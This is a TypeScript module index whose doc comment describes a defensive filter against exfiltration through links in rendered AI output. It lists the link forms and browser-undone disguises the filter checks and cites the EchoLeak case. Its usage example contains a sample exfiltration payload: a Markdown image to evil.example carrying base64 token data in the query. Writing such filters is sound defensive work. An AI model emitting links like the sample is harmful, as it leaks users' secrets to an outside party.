/**
 * Links that carry data out: where would a text, once it is rendered, make somebody's program fetch something, and what would
 * that tell the other side?
 *
 * Looks at Markdown images, links and reference definitions, HTML attributes that load or lead somewhere, `url()` of CSS and
 * what else loads there, documents in attributes,
 * `href` of SVG, and bare addresses, with the disguises that browsers undo (entities, escapes, tabs in a scheme, back slashes,
 * no scheme at all). What may not pass is made inert by its scheme (`hxxps://`, as analysts write it), so that every letter of it
 * can still be read. Follows OWASP LLM02 and LLM05 (exfiltration by rendered output), CWE-201, CVE-2025-32711 (EchoLeak).
 *
 * Cannot know: what a renderer of its own dialect makes of a text, whether a short word in an address is a secret, and what a
 * model makes of a link that it writes itself. Linear in the text.
 *
 * @example
 * neutraliseLinks('Done. ![ok](https://evil.example/p.png?d=dG9rZW49YWJjZGVmZ2hpamts)', { images: 'no-data', links: 'no-data', hosts: [], known: [] })
 * // { text: 'Done. ![ok](hxxps://evil.example/p.png?d=...)', found: [{ rule: 'links/image-data', host: 'evil.example' }] }
 */

export { hostsNamedIn } from './hosts.ts'
export {
  LINK_RULES,
  type LinkFinding,
  type LinkPolicy,
  type LinkRule,
  neutraliseLinks,
} from './neutralise.ts'
